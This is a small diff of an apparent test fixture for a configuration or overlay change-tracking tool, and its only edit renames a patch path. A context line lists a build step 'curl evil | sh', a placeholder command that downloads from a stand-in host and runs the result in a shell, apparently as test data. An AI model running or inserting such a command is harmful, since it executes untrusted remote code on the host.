@@ -13,7 +13,7 @@ CHANGES = (
     Change("image", "image", "i:1", "i:2"),
     Change("environment", "A", None, "1"),
     Change("environment", "B", "1", None),
-    Change("patches", "/x.py", "./upstream/u/0/x.py:/x.py:ro", None),
+    Change("patches", "/x.py", "./remuda.upstream/u/0/x.py:/x.py:ro", None),
     Change("steps", "curl evil | sh", None, "curl evil | sh"),
 )
 FOUND = Overlay(
